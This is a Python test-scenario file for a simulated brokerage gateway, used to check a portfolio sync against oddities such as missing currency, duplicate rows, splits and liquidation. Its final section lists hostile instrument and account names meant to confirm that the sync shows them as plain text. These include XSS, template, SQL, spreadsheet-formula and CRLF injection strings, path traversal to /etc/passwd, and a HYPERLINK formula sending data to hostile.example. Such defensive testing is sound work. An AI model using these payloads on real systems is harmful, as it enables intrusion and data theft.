"""Oddities of a real gateway, and truths that look like a loss: a sync goes through them all."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal
from typing import Any

from brokers.ibkr.simulator.data import every_class
from brokers.ibkr.simulator.scenarios import MAIN, on, scenario, share
from brokers.ibkr.simulator.state import GatewayState


@scenario("books-differ", "ready")
def books_differ(state: GatewayState) -> None:
    """The books show shares that are not among the positions."""

    def change(rows: Any) -> Any:
        more = {"stockmarketvalue": 5000, "netliquidationvalue": 5000}
        return {
            name: {
                of: value + more.get(of, 0) if of in more else value for of, value in row.items()
            }
            if name in ("USD", "BASE")
            else row
            for name, row in rows.items()
        }

    on(state, "/ledger", change)


@scenario("signed-in-elsewhere", "signed_in_elsewhere")
def signed_in_elsewhere(state: GatewayState) -> None:
    """Another program uses the trading session; positions can be read all the same."""

    def change(body: Any) -> Any:
        status = {"authenticated": False, "competing": True, "connected": True, "message": ""}
        return {**body, "iserver": {"authStatus": status}}

    on(state, "/tickle", change)


@scenario("no-market-data", "no_market_data")
def no_market_data(state: GatewayState) -> None:
    """No market data subscription: rows carry no price."""

    def change(rows: Any) -> Any:
        blank = {"mktPrice": None, "mktValue": None, "unrealizedPnl": None}
        return [{**row, **blank} if row["assetClass"] == "STK" else row for row in rows]

    on(state, "/positions/", change)


@scenario("currency-missing", "currency_guessed", lasts=True)
def currency_missing(state: GatewayState) -> None:
    """A new row, and the terms of its contract, do not say their currency."""
    held = state.accounts[MAIN].held
    bought = replace(share(state, "AAPL"), conid=799001, ticker="NEWCO", name="NEW COMPANY")
    if bought.conid not in {row.conid for row in held}:
        held.append(bought)

    def without(row: Any) -> Any:
        return {**row, "currency": None} if row["conid"] == bought.conid else row

    on(state, "/positions/", lambda rows: [without(row) for row in rows])
    on(state, "/trsrv/secdef", lambda body: {"secdef": [without(r) for r in body["secdef"]]})


@scenario("twin-rows", "ready")
def twin_rows(state: GatewayState) -> None:
    """Rows come a second time under the account's other name."""
    on(
        state,
        "/positions/",
        lambda rows: [*rows, *({**row, "acctId": f"{row['acctId']}C"} for row in rows[:3])],
    )


@scenario("bare-tickle", "ready")
def bare_tickle(state: GatewayState) -> None:
    """The tickle says nothing of a trading session."""
    on(state, "/tickle", lambda body: {**body, "iserver": {}, "hmds": {"error": "no bridge"}})


@scenario("slow", "ready")
def slow(state: GatewayState) -> None:
    """Every answer takes two seconds."""
    state.delay = 2


@scenario("strings", "ready")
def strings(state: GatewayState) -> None:
    """Numbers come as text and contract ids too."""

    def as_text(value: Any) -> Any:
        if isinstance(value, Decimal | int) and not isinstance(value, bool):
            return str(value)
        return value

    on(
        state,
        "/positions/",
        lambda rows: [{name: as_text(value) for name, value in row.items()} for row in rows],
    )


@scenario("always-lean", "ready")
def always_lean(state: GatewayState) -> None:
    """Rows never carry their contract's terms."""
    state.always_lean = True


@scenario("new-fields", "ready")
def new_fields(state: GatewayState) -> None:
    """Rows carry fields that nobody knows yet."""
    on(state, "/positions/", lambda rows: [{**row, "quantumState": {"up": 1}} for row in rows])


@scenario("every-class", "ready", lasts=True)
def add_every_class(state: GatewayState) -> None:
    """A third account holds one of every kind of instrument, and oddities."""
    state.accounts["U5550000"] = every_class()


@scenario("sold", "ready", lasts=True)
def sold(state: GatewayState) -> None:
    """A position was sold: a true change."""
    state.sell(MAIN, share(state, "AAPL").ticker, None, keep=False)


@scenario("split", "ready", lasts=True)
def split(state: GatewayState) -> None:
    """A share was split four to one: a true change."""
    row = share(state, "NVDA")
    row.quantity, row.price, row.average = row.quantity * 4, row.price / 4, row.average / 4


@scenario("liquidated", "ready", lasts=True)
def liquidated(state: GatewayState) -> None:
    """Everything was sold for cash: a true change that looks like a loss of data."""
    account = state.accounts[MAIN]
    for row in list(account.held):
        if row.asset != "FUT":
            account.cash[row.currency].balance += row.value
    account.held.clear()


# Names as an attacker would choose them: each is only a text, wherever it is shown.
HOSTILE = (
    "<img src=x onerror=alert(1)>",
    '"><script>alert(2)</script>',
    "</script><script>alert(3)</script>",
    "' onmouseover=alert(4) x='",
    '" autofocus onfocus="alert(5)',
    "</textarea></title></svg><svg onload=alert(6)>",
    "&lt;script&gt;alert(7)&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    '<a href="javascript:alert(8)">javascript:alert(8)</a>',
    '<i hx-get="/hostile" hx-trigger="load">hx</i>',
    '<form action="https://hostile.example/"><button>Sync</button>',
    '<base href="https://hostile.example/"><link rel=stylesheet href=//hostile.example/x>',
    '<meta http-equiv="refresh" content="0;url=https://hostile.example/">',
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}%7B%7B",
    '=HYPERLINK("https://hostile.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "\u202egnp.exe\u202c\u200b\u200f",
    "A\x00B\x1b[31mC\r\nSet-Cookie: a=b",
    "'; DROP TABLE holding; --",
    "%s%n%00%0d%0a../../../etc/passwd",
    "e\u0301\u0327\u0489" * 20,
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "W" * 300,
)
NAMED = ("ticker", "name", "fullName", "contractDesc", "description", "undSym", "listingExchange")


def _hostile(row: Any) -> Any:
    if row.get("assetClass") != "STK":
        return row
    name = HOSTILE[int(row["conid"]) % len(HOSTILE)]
    return {**row, **{field: name for field in NAMED if field in row}}


@scenario("hostile-names", "ready")
def hostile_names(state: GatewayState) -> None:
    """Names of instruments, accounts and the user carry markup, scripts and formulas."""

    def titled(row: Any) -> Any:
        title = HOSTILE[len(row["id"]) % len(HOSTILE)]
        return {**row, "accountTitle": title, "displayName": HOSTILE[0], "type": HOSTILE[1]}

    on(state, "/positions/", lambda rows: [_hostile(row) for row in rows])
    on(state, "/portfolio2/", lambda rows: [_hostile(row) for row in rows])
    on(state, "/trsrv/secdef", lambda body: {"secdef": [_hostile(r) for r in body["secdef"]]})
    on(state, "/portfolio/accounts", lambda rows: [titled(row) for row in rows])
    on(state, "/sso/validate", lambda body: {**body, "USER_NAME": HOSTILE[1]})
